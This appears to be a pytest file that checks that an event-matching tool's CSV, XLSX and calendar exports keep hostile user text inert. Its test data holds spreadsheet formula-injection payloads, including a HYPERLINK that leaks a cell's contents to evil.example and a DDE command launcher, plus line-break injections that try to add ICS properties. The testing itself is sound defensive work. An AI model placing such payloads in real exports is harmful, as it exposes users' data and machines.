"""Every CSV / XLSX export keeps hostile user text as text: no formula cell, no unprotected
cell starting with = + - @ (or tab / CR), and the follow-up sheet reads the text back as
typed. ICS files keep hostile text inside its property."""

from __future__ import annotations

import csv
from datetime import date, time
from pathlib import Path

import icalendar
import pytest
from openpyxl import load_workbook

from matcher.cells import TRIGGERS, csv_plain, csv_text, risky
from matcher.events.export import agenda_ics, export_all
from matcher.events.model import Event, EventPlan, Meeting, Participant, make_slots
from matcher.outcomes.followup_xlsx import (
    FOLLOWUP_HEADER,
    ID_COLUMN,
    read_followup,
    write_followup_template,
)
from matcher.outcomes.model import FinanceOutcome, MeetingOutcome, meeting_outcome_id
from matcher.outcomes.report import build_report, write_report
from tests.small_world import ENTERPRISES, PRODUCTS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "@SUM(1)",
    "+1",
    "-1+1",
    "\t=1",
    "=cmd|' /C calc'!A0",
    "  =1+1",
    "'=1",
]


@pytest.fixture
def plan() -> EventPlan:
    event = Event(id="EVH", name=HOSTILE[0], date=date(2026, 12, 3), venue=HOSTILE[1],
                  slots=make_slots(time(9), 20, 3), tables=3)  # fmt: skip
    # model_construct: exports must also hold text that today's validation would refuse
    # (a tab, say) but that older data may carry
    people = [
        Participant.model_construct(id=f"E{i}", kind="enterprise", ref=f"E{i}", name=name,
                                    role="demand")
        for i, name in enumerate(HOSTILE)
    ] + [Participant(id="U:大学|一", kind="university", ref="大学|一", name=HOSTILE[5],
                     role="supply")]  # fmt: skip
    meetings = [
        Meeting(a=f"E{i}", b="U:大学|一", score=0.5, slot=i % 3, table=i // 3 + 1,
                reasons=[HOSTILE[(i + 1) % len(HOSTILE)]])
        for i in range(len(HOSTILE))
    ]  # fmt: skip
    return EventPlan(event=event, participants=people, meetings=meetings)


def _unprotected(text: str) -> bool:
    return text.lstrip(" \t\r\n").startswith(("=", "+", "-", "@")) or text.startswith(TRIGGERS)


def _check_xlsx(path: Path) -> tuple[int, list[str]]:
    """(cells checked, texts seen); fails on a formula or an unprotected risky cell."""
    checked, texts = 0, []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                checked += 1
                assert cell.data_type != "f", f"{path.name} {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if _unprotected(cell.value):
                        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    return checked, texts


def _check_csv(path: Path) -> tuple[int, list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [value for row in csv.reader(handle) for value in row if value]
    assert not [value for value in cells if _unprotected(value)], path.name
    return len(cells), [csv_plain(value) for value in cells]


def test_every_event_export_keeps_hostile_names_as_text(plan, tmp_path):
    written = export_all(plan, tmp_path)
    checked = 0
    for path in written:
        if path.suffix in (".xlsx", ".csv"):
            count, texts = (_check_xlsx if path.suffix == ".xlsx" else _check_csv)(path)
            checked += count
            assert {h for h in HOSTILE} <= {t.split(" ↔ ")[0] for t in texts} | set(texts)
    assert checked > 150  # pairing.xlsx (3 sheets), pairing.csv and name-cards.csv


def test_the_follow_up_sheet_and_the_report_keep_hostile_text_as_text(plan, tmp_path):
    outcomes = {
        meeting_outcome_id("EVH", m.a, m.b): MeetingOutcome.model_construct(
            id=meeting_outcome_id("EVH", m.a, m.b), event_id="EVH", a=m.a, b=m.b,
            attendance="held", notes=HOSTILE[i], version=1,
        )
        for i, m in enumerate(plan.meetings)
    }  # fmt: skip
    sheet = tmp_path / "followup.xlsx"
    assert write_followup_template(plan, outcomes, sheet) == len(HOSTILE)
    checked, texts = _check_xlsx(sheet)
    assert set(HOSTILE) <= set(texts)
    read = read_followup(sheet)
    notes = {outcome_id: changes.get("notes") for outcome_id, changes in read.updates}
    assert notes == {i: o.notes for i, o in outcomes.items()}  # read back exactly as typed

    enterprises = {e.id: e.model_copy(update={"name": HOSTILE[0]}) for e in ENTERPRISES}
    products = {p.id: p.model_copy(update={"bank": HOSTILE[1], "name": HOSTILE[2]})
                for p in PRODUCTS}  # fmt: skip
    finance = [FinanceOutcome(id=f"{e}|F1", enterprise_id=e, product_id="F1", event_id="EVH",
                              status="approved", amount=10, notes=HOSTILE[3])
               for e in list(enterprises)[:3]]  # fmt: skip
    report = build_report(outcomes, finance, [plan], enterprises, products)
    book = next(p for p in write_report(report, tmp_path / "report") if p.suffix == ".xlsx")
    count, texts = _check_xlsx(book)
    assert {HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3]} <= set(texts)
    assert checked + count > 150


def test_a_follow_up_sheet_saved_as_csv_loses_only_the_added_apostrophe(plan, tmp_path):
    outcome_id = meeting_outcome_id("EVH", "E0", "U:大学|一")
    path = tmp_path / "跟踪表.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(FOLLOWUP_HEADER)
        values = {ID_COLUMN: outcome_id, "备注": csv_text(HOSTILE[0]), "活动": csv_text(HOSTILE[7])}
        writer.writerow([values.get(name, "") for name in FOLLOWUP_HEADER])
    [(read_id, changes)] = read_followup(path).updates
    assert (read_id, changes) == (outcome_id, {"notes": HOSTILE[0]})


@pytest.mark.parametrize("text", [*HOSTILE, "'", "''=x", "'普通", "普通=1", "", "-", "  "])
def test_csv_text_round_trips_and_protects(text):
    assert csv_plain(csv_text(text)) == text
    assert not _unprotected(csv_text(text))
    assert risky(text) == (csv_text(text) != text)


def test_ics_line_breaks_in_names_cannot_add_properties(plan):
    people = [p.model_copy(update={"name": "青岛\rATTENDEE:evil\nX-EVIL:1\r\nORGANIZER:x\x0bY"})
              if p.id == "E0" else p for p in plan.participants]  # fmt: skip
    hostile = plan.model_copy(update={"participants": people})
    raw = agenda_ics(hostile, "U:大学|一")
    lines = raw.split("\r\n")
    assert "\r" not in raw.replace("\r\n", "") and "\n" not in raw.replace("\r\n", "")
    assert not any(line.startswith(("ATTENDEE", "X-EVIL", "ORGANIZER")) for line in lines)
    calendar = icalendar.Calendar.from_ical(raw)
    events = list(calendar.walk("VEVENT"))
    assert len(events) == len(HOSTILE)
    assert all(set(e) <= {"UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "LOCATION",
                          "DESCRIPTION"} for e in events)  # fmt: skip
    summaries = [str(e["SUMMARY"]) for e in events]
    assert any("青岛\nATTENDEE:evil\nX-EVIL:1\nORGANIZER:xY" in s for s in summaries)
